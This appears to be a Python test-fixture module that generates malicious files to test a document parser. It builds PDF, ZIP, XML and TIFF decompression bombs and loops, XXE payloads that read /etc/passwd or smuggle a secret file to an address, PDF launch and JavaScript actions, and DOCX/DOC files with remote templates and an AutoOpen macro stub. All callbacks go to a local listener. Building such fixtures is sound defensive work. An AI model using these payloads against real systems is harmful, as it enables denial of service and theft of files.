"""Files made to harm, each small and written by hand: bombs, circles, doors to the network, files behind passwords."""

from __future__ import annotations

import io
import socket
import struct
import threading
import zipfile
import zlib
from collections.abc import Mapping, Sequence
from types import TracebackType
from typing import Self

import olefile

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

SAID = "Annual report of Liuxi town: 316 items were made public, 12 requests were answered in time."
"""What the PDFs say on each page."""


class Listener:
    """A real TCP server on loopback that counts who comes; nobody may."""

    def __init__(self) -> None:
        self.hits = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._thread = threading.Thread(target=self._serve, daemon=True)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self._socket.getsockname()[1]}"

    def _serve(self) -> None:
        while True:
            try:
                caller, _ = self._socket.accept()
            except OSError:
                return
            self.hits += 1
            caller.close()

    def heard_itself(self) -> bool:
        """Whether a call of our own is counted; told last, so that a deaf server proves nothing."""
        before = self.hits
        with socket.create_connection(self._socket.getsockname(), timeout=10) as caller:
            caller.recv(1)
        return self.hits == before + 1

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join(timeout=10)


# PDF


def pdf(objects: Sequence[bytes], *, trailer: bytes = b"", prev: str = "") -> bytes:
    """A PDF of these objects, numbered from 1, the first its catalogue; `prev` is the place of an older table."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    older = b" /Prev %d" % (table if prev == "itself" else int(prev)) if prev else b""
    out += b"trailer\n<< /Size %d /Root 1 0 R%s %s >>\n" % (len(objects) + 1, older, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), entries) + content + b"\nendstream"


def pdf_of_page(
    *, catalogue: bytes = b"", page: bytes = b"", font: bytes = b"", more: Sequence[bytes] = (), prev: str = ""
) -> bytes:
    """One page that says `SAID`; objects 1 to 5, then `more`."""
    written = b"BT /F1 10 Tf 40 700 Td (%s) Tj ET" % SAID.encode()
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> %s >>" % page,
            stream(written),
            font or b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *more,
        ],
        prev=prev,
    )


def outline_loop_pdf() -> bytes:
    """A table of contents whose entries are each other's next and parent."""
    entries = [
        b"<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>",
        b"<< /Title (a) /Parent 6 0 R /Next 8 0 R /Prev 8 0 R /First 8 0 R /Last 8 0 R /Dest [3 0 R /Fit] >>",
        b"<< /Title (b) /Parent 7 0 R /Next 7 0 R /Prev 7 0 R /First 6 0 R /Last 7 0 R /Dest [3 0 R /Fit] >>",
    ]
    return pdf_of_page(catalogue=b"/Outlines 6 0 R", more=entries)


def page_loop_pdf() -> bytes:
    """A tree of pages that holds itself."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 1000 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 999 >>",
        ]
    )


def flate_bomb_pdf(mebibytes: int) -> bytes:
    """A page whose content is packed twice: so many MiB of drawing orders in a few KB."""
    packer = zlib.compressobj(9)
    piece = b"0 0 m 9 9 l S\n" * (1024 * 1024 // 14)
    once = b"".join(packer.compress(piece) for _ in range(mebibytes)) + packer.flush()
    twice = zlib.compress(once, 9)
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            stream(twice, b"/Filter [/FlateDecode /FlateDecode]"),
        ]
    )


def many_pages_pdf(count: int) -> bytes:
    """So many pages that share one content."""
    kids = b" ".join(b"%d 0 R" % (5 + number) for number in range(count))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R/Resources<</Font<</F1 4 0 R>>>>>>"
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
            stream(b"BT /F1 10 Tf 40 700 Td (%s) Tj ET" % SAID.encode()),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *[page] * count,
        ]
    )


def acting_pdf(address: str, program: str, pickled: str) -> bytes:
    """A PDF that would run a program, a script, call an address, hand over a file, and load a map of signs by path."""
    deeds = (
        b"<< /S /Launch /F (%s) /Win << /F (%s) >> /Next 7 0 R >>" % (program.encode(), program.encode()),
        b"<< /S /JavaScript /JS (app.launchURL\\('%s/js'\\); this.submitForm\\('%s/form'\\);) /Next 8 0 R >>"
        % (address.encode(), address.encode()),
        b"<< /S /URI /URI (%s/uri) /Next 9 0 R >>" % address.encode(),
        b"<< /S /GoToR /F << /FS /URL /F (%s/far.pdf) >> /D [0 /Fit] /Next 10 0 R >>" % address.encode(),
        b"<< /S /ImportData /F (%s) >>" % program.encode(),
        b"<< /Names [(evil.exe) 12 0 R] >>",
        b"<< /Type /Filespec /F (../../evil.exe) /EF << /F 13 0 R >> >>",
        stream(b"MZ evil", b"/Type /EmbeddedFile"),
        b"<< /Type /XObject /Subtype /Image /Width 9 /Height 9 /F << /FS /URL /F (%s/far.png) >> /Length 0 >>"
        % address.encode(),
    )
    path = pickled.replace("/", "#2F").encode()
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /%s /DescendantFonts [15 0 R] >>" % path
    within = b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /X /CIDSystemInfo << /Registry (%s) /Ordering (%s) >> >>"
    plain = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    both = b"/AA << /O 6 0 R /C 7 0 R >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 6 0 R >>]"
    fonts = b"/Rotate 0 /Resources << /Font << /F1 5 0 R /F2 16 0 R >> >>"
    return pdf_of_page(
        catalogue=b"/OpenAction 6 0 R /AA << /WC 7 0 R >> /Names << /EmbeddedFiles 11 0 R /JavaScript << /Names "
        b"[(a) 7 0 R] >> >>",
        page=both + fonts,
        font=plain,
        more=[*deeds, within % (path, path), font],
    )


# ZIP


def dense_zip(mebibytes: int, name: str = "report.txt") -> bytes:
    """One member packed 1,000 to 1."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(name, "w") as member:
        for _ in range(mebibytes):
            member.write(bytes(1024**2))
    return out.getvalue()


def overlap_zip(members: int = 200, kernel: int = 1024**2) -> bytes:
    """Members that all have the same bytes of the file: a few KB that unpack to `members` × `kernel` bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0000.txt", b"report 12 " * (kernel // 10))
    whole = out.getvalue()
    start = whole.index(b"PK\x01\x02")
    end = whole.index(b"PK\x05\x06")
    entry = whole[start:end]
    place = entry.index(b"0000.txt")
    entries = b"".join(entry[:place] + b"%04d.txt" % n + entry[place + 8 :] for n in range(members))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, members, members, len(entries), start, 0)
    return whole[:start] + entries + tail


def nested_zip(depth: int, width: int, inmost: bytes = b"a report") -> bytes:
    """`width` archives in each archive, `depth` deep: width ** depth files at the bottom."""
    content, name = inmost, "a.txt"
    for level in range(depth):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(width):
                archive.writestr(f"{number}-{name}", content)
        content, name = out.getvalue(), f"{level}.zip"
    return content


def many_zip(count: int) -> bytes:
    """So many empty members."""
    local = b"".join(b"PK\x03\x04" + bytes(22) + struct.pack("<HH", 6, 0) + b"%06d" % n for n in range(count))
    entries = b"".join(
        b"PK\x01\x02" + bytes(24) + struct.pack("<H", 6) + bytes(12) + struct.pack("<I", 36 * n) + b"%06d" % n
        for n in range(count)
    )
    shown = min(count, 0xFFFF)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, shown, shown, len(entries), len(local), 0)
    if count > 0xFFFF:
        wide = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(entries), len(local))
        end = wide + struct.pack("<4sIQI", b"PK\x06\x07", 0, len(local) + len(entries), 1) + end
    return local + entries + end


def repacked(content: bytes, changed: Mapping[str, bytes]) -> bytes:
    """A ZIP container with parts changed or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in dict.fromkeys([*old.namelist(), *changed]):
            new.writestr(name, changed[name] if name in changed else old.read(name))
    return out.getvalue()


def part_of(content: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read(name)


def link_zip(name: str, target: str) -> bytes:
    """A member that is a symbolic link."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        about = zipfile.ZipInfo(name)
        about.create_system, about.external_attr = 3, 0o120777 << 16
        archive.writestr(about, target)
    return out.getvalue()


# Markup


def with_doctype(markup: bytes, doctype: str, use: str = "") -> bytes:
    """Markup with a document type before its root, and `use` as the first thing within every element of text."""
    at = markup.index(b"?>") + 2 if markup.lstrip().startswith(b"<?xml") else 0
    body = markup[at:]
    for close in (b"</w:t>", b"</ofd:TextCode>", b"</t>", b"</v>", b"</text>", b"</Data>", b"</p>") if use else ():
        body = body.replace(close, use.encode() + close)
    return markup[:at] + doctype.encode() + body


def doors(address: str, secret: str) -> dict[str, tuple[str, str]]:
    """Document types that ask for more than the file holds, and what in the text would show it."""
    return {
        "web entity": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}/entity">]>', "&e;"),
        "file entity": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{secret}">]>', "&e;"),
        "passwd": ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"),
        "external type": (f'<!DOCTYPE x SYSTEM "{address}/a.dtd">', ""),
        "parameter": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{address}/p.dtd"> %p;]>', ""),
        "smuggled": (
            f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{secret}"><!ENTITY % s "<!ENTITY e SYSTEM \'{address}/?%f;\'>"> %s;]>',
            "&e;",
        ),
        "style": (f'<?xml-stylesheet type="text/xsl" href="{address}/a.xsl"?>', ""),
    }


def laughs(levels: int = 12) -> tuple[str, str]:
    """Entities each of ten of the one before: 10 ** levels times ten signs."""
    said = '<!ENTITY e0 "haha haha ">'
    said += "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, levels + 1))
    return f"<!DOCTYPE x [{said}]>", f"&e{levels};"


def long_entity(signs: int = 100_000, uses: int = 20_000) -> tuple[str, str]:
    """One long entity, used many times: no depth to count."""
    return f'<!DOCTYPE x [<!ENTITY e "{"a" * signs}">]>', "&e;" * uses


def svg(address: str, secret: str, doctype: str = "", use: str = "") -> bytes:
    """A drawing that loads a picture, a style, a script and another drawing from elsewhere."""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink"><style>@import url({address}/a.css);</style>'
        f'<image xlink:href="{address}/a.png"/><use xlink:href="{address}/b.svg#x"/><script href="{address}/a.js"/>'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>'
        f"<text>drawn {use}</text></svg>"
    ).encode()


def calling_docx(content: bytes, address: str) -> bytes:
    """A DOCX with a template, a picture, a frame, a piece of another file and a sheet elsewhere, and with a macro."""
    document = part_of(content, "word/document.xml")
    field = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE "{address}/f.png" \\d'
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>field</w:t></w:r>'
        f'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:altChunk xmlns:r="{OFFICE}" r:id="far2"/>'
        f'<w:subDoc xmlns:r="{OFFICE}" r:id="far3"/>'
    ).encode()
    at = document.index(b"<w:body>") + len(b"<w:body>")
    rels = part_of(content, "word/_rels/document.xml.rels")
    kinds = ("image", "aFChunk", "subDocument", "frame", "oleObject", "hyperlink", "styles", "numbering", "footnotes")
    far = "".join(
        f'<Relationship Id="far{n}" Type="{OFFICE}/{kind}" Target="{address}/{kind}" TargetMode="External"/>'
        # A target that says nothing of where it is, as a careless reader would follow.
        f'<Relationship Id="near{n}" Type="{OFFICE}/{kind}" Target="{address}/near-{kind}"/>'
        for n, kind in enumerate(kinds, start=1)
    ).encode()
    template = (
        f'<?xml version="1.0"?><Relationships xmlns="{RELATIONS}"><Relationship Id="rId1" '
        f'Type="{OFFICE}/attachedTemplate" Target="{address}/evil.dotm" TargetMode="External"/></Relationships>'
    ).encode()
    return repacked(
        content,
        {
            "word/document.xml": document[:at] + field + document[at:],
            "word/_rels/document.xml.rels": rels.replace(b"</Relationships>", far + b"</Relationships>"),
            "word/_rels/settings.xml.rels": template,
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"AutoOpen Shell".ljust(4096),
        },
    )


def calling_doc(content: bytes, address: str) -> bytes:
    """A DOC in whose text a run of plain signs became fields that fetch a picture and another file."""
    field = f'\x13INCLUDEPICTURE "{address}/f" \\d\x14\x15\x13INCLUDETEXT "{address}/t"\x14\x15'
    raw = field.encode("utf-16-le")
    # The first long run of Chinese signs is prose.
    for place in range(1536, len(content) - len(raw), 2):
        run = content[place : place + len(raw)]
        if all(0x4E <= high <= 0x9F or high == 0xFF for high in run[1::2]):
            return content[:place] + raw + content[place + len(raw) :]
    raise ValueError("no prose that is long enough")


def guarded_doc(content: bytes) -> bytes:
    """A DOC that says of itself to be encrypted."""
    with olefile.OleFileIO(io.BytesIO(content)) as container:
        head = container.openstream("WordDocument").read(64)
    place = content.index(head)
    (flags,) = struct.unpack_from("<H", content, place + 10)
    return content[: place + 10] + struct.pack("<H", flags | 0x100) + content[place + 12 :]


# Pictures


def png(width: int, height: int, rows: int = 1) -> bytes:
    """A PNG of one bit a point that states its size; only so many rows are there."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    data = zlib.compress(bytes((width // 8 + 2) * rows), 9)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def tiff_circle(width: int = 64, height: int = 64) -> bytes:
    """A TIFF whose only page says to be followed by itself."""
    tags = ((256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 200),
            (277, 3, 1, 1), (278, 4, 1, height), (279, 4, 1, width * height))  # fmt: skip
    directory = struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", *tag) for tag in tags)
    head = struct.pack("<2sHI", b"II", 42, 8) + directory + struct.pack("<I", 8)
    return head.ljust(200, b"\x00") + b"\xff" * (width * height)
